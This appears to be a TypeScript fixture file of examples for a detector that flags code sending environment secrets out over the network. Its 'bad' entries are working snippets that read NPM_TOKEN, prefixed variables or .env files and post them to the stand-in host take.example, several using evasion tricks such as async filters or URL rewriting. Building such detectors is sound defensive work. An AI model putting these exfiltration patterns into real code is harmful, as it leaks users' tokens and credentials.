import type { DetectorExamples } from '../detector.ts';

/** Settings that are taken out of the environment all at once: by a schema that names them, or by how their names begin. */
export const ofSettings: DetectorExamples = {
  bad: [
    {
      code: "import { z } from 'zod'; const settings = z.object({ NPM_TOKEN: z.string() }).parse(process.env); fetch('https://take.example', { method: 'POST', body: settings.NPM_TOKEN });",
      why: 'one that a schema names',
      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import { z } from 'zod'; const settings = z.object({ NPM_TOKEN: z.string() }).safeParse(process.env); fetch('https://take.example', { method: 'POST', body: settings.data.NPM_TOKEN });",
      why: 'the same in an answer that may be a refusal',
      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import { z } from 'zod'; const settings = z.object({ NPM_TOKEN: z.string() }).parse(process.env); fetch('https://take.example', { method: 'POST', body: JSON.stringify(settings) });",
      why: 'all that a schema keeps, whatever that is',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import { z } from 'zod'; const settings = z.object({ NPM_TOKEN: z.string() }).parse(process.env); for (const name of Object.keys(settings)) fetch('https://take.example', { method: 'POST', body: settings[name] });",
      why: 'the same, one after the other',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import { z } from 'zod'; const settings = z.object({ HOST: z.string().default(process.env.NPM_TOKEN) }).parse(process.env); fetch('https://take.example', { method: 'POST', body: settings.HOST });",
      why: 'what stands in for a setting that is not there',
      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import { createEnv } from '@t3-oss/env-core'; import { z } from 'zod'; const settings = createEnv({ server: { NPM_TOKEN: z.string() }, runtimeEnv: process.env }); fetch('https://take.example', { method: 'POST', body: settings.NPM_TOKEN });",
      why: 'one that another kind of schema names',
      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "const headers = {}; for (const [name, value] of Object.entries(process.env)) { if (name.startsWith('ACME_HEADER_') && value) headers[name.slice(12)] = value; } fetch('https://take.example', { headers });",
      why: 'all whose names begin alike',
      attributes: {
        source: 'environment:acme_header_*',
        sink: 'network.header',
        to: 'take.example',
      },
    },
    {
      code: "const headers = {}; Object.keys(process.env).filter((name) => name.startsWith('ACME_HEADER_')).forEach((name) => { headers[name] = process.env[name]; }); fetch('https://take.example', { headers });",
      why: 'the same by a list of names',
      attributes: {
        source: 'environment:acme_header_*',
        sink: 'network.header',
        to: 'take.example',
      },
    },
    {
      code: "const headers = {}; for (const [name, value] of Object.entries(process.env)) { if (name.startsWith('ACME_HEADER_')) headers.first = value; headers[name] = value; } fetch('https://take.example', { headers });",
      why: 'all of them after some',
      attributes: { source: 'environment', sink: 'network.header', to: 'take.example' },
    },
    {
      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); const base = settings.URL.replace(/\\/$/, ''); fetch(base + '/items', { method: 'POST' });",
      why: 'the address that settings name is asked, and told nothing of them',
      attributes: { source: 'file:environment-file', sink: 'network.url', to: 'configured' },
    },
    {
      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); fetch(await place(), { headers: { authorization: settings.TOKEN } });",
      why: 'a setting goes to an address that comes from elsewhere',
      attributes: { source: 'file:environment-file', sink: 'network.header', to: 'dynamic' },
    },
    {
      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); const base = settings.URL || 'https://take.example'; fetch(base + '/x', { headers: { authorization: settings.TOKEN } });",
      why: 'a setting goes to the host that stands in for one that is not there',
      attributes: { source: 'file:environment-file', sink: 'network.header', to: 'take.example' },
    },
    {
      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); fetch(settings.URL.replace(/^.*$/, place) + '/items', { method: 'POST' });",
      why: 'something else is put in the place of the address that settings name',
      attributes: { source: 'file:environment-file', sink: 'network.url', to: 'dynamic' },
    },
    {
      code: "const taken = {}; Object.keys(process.env).filter((name) => /^DEBUG_.*|./.test(name)).forEach((name) => { taken[name] = process.env[name]; }); fetch('https://take.example', { method: 'POST', body: JSON.stringify(taken) });",
      why: 'a beginning that is one of several choices',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "const taken = {}; Object.keys(process.env).filter(async (name) => name.startsWith('DEBUG_')).forEach((name) => { taken[name] = process.env[name]; }); fetch('https://take.example', { method: 'POST', body: JSON.stringify(taken) });",
      why: 'a promise of whether a name begins so is never false',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "const taken = Object.fromEntries(Object.entries(process.env).filter(function* ([name]) { return name.startsWith('DEBUG_'); })); fetch('https://take.example', { method: 'POST', body: JSON.stringify(taken) });",
      why: 'nor is an iterator',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); fetch(settings.URL + '.take.example/items', { method: 'POST' });",
      why: 'what stands behind the address that settings name makes it another host',
      attributes: { source: 'file:environment-file', sink: 'network.url', to: 'dynamic' },
    },
    {
      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); fetch(settings.URL + '@take.example/items', { method: 'POST' });",
      why: 'the same where the address becomes a name to sign in with',
      attributes: { source: 'file:environment-file', sink: 'network.url', to: 'dynamic' },
    },
    {
      code: "import dotenv from 'dotenv'; import { readFileSync } from 'node:fs'; const settings = dotenv.parse(readFileSync('.env')); fetch(settings.URL.slice(0, 7) + '/take.example/items', { method: 'POST' });",
      why: 'no more than the scheme of it is kept',
      attributes: { source: 'file:environment-file', sink: 'network.url', to: 'dynamic' },
    },
  ],
  good: [
    {
      code: "import { z } from 'zod'; const settings = z.object({ ACME_HOST: z.string() }).parse(process.env); fetch('https://take.example', { method: 'POST', body: settings.ACME_HOST });",
      why: 'a setting that is no secret',
    },
    {
      code: "import { cleanEnv, str } from 'envalid'; const settings = cleanEnv(process.env, { ACME_HOST: str() }); fetch('https://take.example', { method: 'POST', body: settings.ACME_HOST });",
      why: 'the same of another kind of schema',
    },
  ],
};
